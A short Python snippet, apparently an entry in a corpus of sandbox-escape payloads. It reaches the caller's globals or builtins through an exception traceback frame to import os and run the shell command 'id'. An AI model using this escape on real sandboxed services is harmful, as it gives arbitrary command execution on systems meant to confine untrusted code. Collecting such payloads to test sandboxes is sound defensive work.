# corpus: exception __traceback__.tb_frame.f_back to reach outer frame globals
try:
    raise ValueError
except ValueError as exc:
    outer = exc.__traceback__.tb_frame.f_back
    if outer is not None:
        outer.f_globals.get("os", __import__("os")).system("id")
    else:
        exc.__traceback__.tb_frame.f_builtins["__import__"]("os").system("id")
